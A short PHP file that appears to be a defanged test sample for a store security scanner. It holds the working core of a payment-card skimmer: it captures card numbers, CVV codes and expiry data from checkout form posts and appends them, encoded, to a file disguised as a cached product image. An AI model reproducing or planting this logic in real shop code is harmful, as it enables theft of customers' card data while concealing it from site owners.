<?php /* ShopGuard test sample, DEFANGED: shape of a real family, payload removed. Never deploy. */ exit('defanged'); ?>
<?php
$p = $_POST['payment'];
$d = base64_encode(serialize(array($_POST['payment']['cc_number'], $p['cc_cid'], $p['cc_exp_month'])));
file_put_contents(BP . '/pub/media/catalog/product/cache/sg_defanged.jpg', $d . "\n", FILE_APPEND);
